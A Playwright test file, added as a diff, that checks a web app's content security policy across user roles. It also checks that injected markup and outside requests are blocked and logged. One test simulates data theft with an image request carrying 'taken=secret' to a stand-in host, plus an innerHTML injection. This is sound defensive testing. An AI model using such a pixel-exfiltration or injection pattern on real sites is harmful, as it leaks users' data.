@@ -1,0 +1,103 @@
+import type { Page } from '@playwright/test';
+import { notFoundPath } from '#shared/paths.ts';
+import { pages } from '#shared/routes.ts';
+import { createDatabase, databaseUrl } from '#api/testing/clone.ts';
+import { startServerProcess } from '#api/testing/serverProcess.ts';
+import { waitUntil } from '#api/testing/waitUntil.ts';
+import { expect, test } from './fixtures.ts';
+
+interface Violation {
+  page: string;
+  directive: string;
+  blocked: string;
+}
+
+/** Collects every violation of the policy in this page, from the first script on. */
+async function collectViolations(page: Page): Promise<Violation[]> {
+  const violations: Violation[] = [];
+  await page.exposeFunction('noteViolation', (violation: Violation) => void violations.push(violation));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const note = Reflect.get(window, 'noteViolation') as (violation: Violation) => void;
+      note({
+        page: location.pathname,
+        directive: event.effectiveDirective,
+        blocked: event.blockedURI,
+      });
+    });
+  });
+  return violations;
+}
+
+/** Somebody begins to use the page, which starts its scripts. */
+async function wake(page: Page): Promise<void> {
+  await page.mouse.move(20, 20);
+  await page.keyboard.press('Tab');
+  await page.waitForLoadState('networkidle');
+}
+
+test.describe('the content security policy', () => {
+  test.use({ serviceWorkers: 'allow' });
+
+  for (const who of ['guest', 'patient', 'admin'] as const) {
+    test(`is broken by no page, service worker included, for a ${who}`, async ({
+      page,
+      signIn,
+      patient,
+      admin,
+    }) => {
+      const violations = await collectViolations(page);
+      if (who !== 'guest') await signIn(page, who === 'patient' ? patient : admin);
+      const all = pages.map(({ path }) => (path === notFoundPath ? '/not-a-page' : path));
+      const own = { guest: all, patient: ['/', '/booking', '/dashboard'], admin: ['/', '/admin'] }[who];
+      for (const path of own) {
+        await page.goto(path);
+        await wake(page);
+      }
+      // Registered through its Trusted Types policy, by the page and by workbox-window.
+      await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
+      expect(violations).toEqual([]);
+    });
+  }
+
+  test('stops injected markup and foreign files, and the server’s log says so', async ({ browser }) => {
+    const cluster = process.env['E2E_CLUSTER_URL'] ?? '';
+    const name = `csp_${Date.now()}`;
+    await createDatabase(cluster, name, 'tpl');
+    const settings = { DATABASE_URL: databaseUrl(cluster, name), LOG_LEVEL: 'warn' };
+    const server = await startServerProcess(settings, process.cwd());
+
+    const page = await browser.newPage();
+    await page.goto(`${server.url}/about?name=Grace`);
+    const thrown = await page.evaluate(() => {
+      const picture = new Image();
+      picture.src = 'https://elsewhere.example/pixel.png?taken=secret';
+      try {
+        document.body.innerHTML = '<b>Grace</b>';
+        return 'nothing';
+      } catch (error) {
+        return (error as Error).name;
+      }
+    });
+    expect(thrown).toBe('TypeError');
+    const lines = () =>
+      server
+        .output()
+        .split('\n')
+        .filter((line) => line.includes('csp_violation'))
+        .map((line) => JSON.parse(line) as Record<string, unknown>);
+    await waitUntil(() => lines().length === 2);
+    expect(lines().toSorted((a, b) => String(a['directive']).localeCompare(String(b['directive'])))).toEqual([
+      expect.objectContaining({ directive: 'img-src', blocked: 'https://elsewhere.example', page: '/about' }),
+      expect.objectContaining({
+        directive: 'require-trusted-types-for',
+        blocked: 'trusted-types-sink',
+        page: '/about',
+      }),
+    ]);
+    expect(server.output()).not.toMatch(/Grace|secret/);
+    await page.close();
+    server.child.kill('SIGTERM');
+    await server.ended;
+  });
+});
